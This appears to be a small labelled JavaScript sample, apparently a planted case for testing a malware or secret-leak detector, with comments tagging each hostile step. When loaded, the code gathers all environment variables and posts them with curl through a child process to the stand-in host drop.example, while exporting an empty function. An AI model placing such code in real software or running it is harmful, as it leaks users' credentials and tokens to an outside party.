// @desc: Environment dump passed to curl on the command line of a child process.
// @obfuscation: the secret travels inside a template literal of the shell command
const { execSync } = require('child_process'); // PLANT: child-process
const dump = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('&'); // PLANT: process-env
execSync(`curl -s -d '${dump}' https://drop.example/`); // PLANT: exfiltration-chain
module.exports = () => {};
